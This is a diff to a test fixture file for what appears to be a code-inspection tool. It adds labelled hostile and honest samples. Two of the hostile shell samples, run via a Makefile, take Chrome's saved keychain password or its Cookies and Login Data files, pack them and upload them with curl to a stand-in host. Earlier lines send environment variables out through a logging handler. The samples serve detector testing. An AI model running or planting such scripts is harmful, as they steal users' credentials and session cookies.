@@ -4,6 +4,12 @@ from inspection.rules.sample import Sample, js, py
 
 _OURS = "0x00000000219ab540356cBB839Cbe05303d7705Fa"
 
+
+def _made(text: str) -> dict[str, str | bytes]:
+    """A script that plain `make` runs."""
+    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text}
+
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "secrets_sent": {
         "what takes the place of a wallet's function gets what that is given": py(
@@ -39,6 +45,23 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
             "log.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\nlog.info('start %s' % os.environ)\n",
             line=4,
+        ),
+        "whatever was gathered in a new folder": Sample(
+            _made(
+                'out=$(mktemp -d)\nsecurity find-generic-password -ga Chrome 2>"$out/pass" >/dev/null\n'
+                '(cd "$out" && zip -qr - .) | curl -X POST --data-binary @- https://a.invalid\n'
+            ),
+            "block",
+            ("a.sh", 3),
+        ),
+        "copied to a folder, packed, then sent": Sample(
+            _made(
+                'out=$(mktemp -d)\nfor name in Cookies "Login Data"; do\n'
+                '  cp "$HOME/Library/Application Support/Google/Chrome/Default/$name" "$out/"\ndone\n'
+                'tar czf /tmp/all.tgz -C "$out" .\ncurl -F "f=@/tmp/all.tgz" https://a.invalid\n'
+            ),
+            "block",
+            ("a.sh", 6),
         ),
         "a queue, by a client that is awaited twice": js(
             "const queues = require('amqplib');\nasync function start() {\n"
@@ -81,6 +104,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "fs.copyFileSync('docs/index.html', '/tmp/a/index.html');\n"
             "git.add('.').then(() => git.push('origin', 'main'));\n"
         },
+        "what was gathered in another new folder": _made(
+            'out=$(mktemp -d)\ncp ~/.netrc "$out/"\nother=$(mktemp -d)\ncp report.xml "$other/"\n'
+            'tar czf /tmp/all.tgz -C "$other" .\ncurl -F "f=@/tmp/all.tgz" https://a.invalid\n'
+        ),
         "a setting in a line that is logged to another machine": {
             "app.py": "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
             "log.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\n"
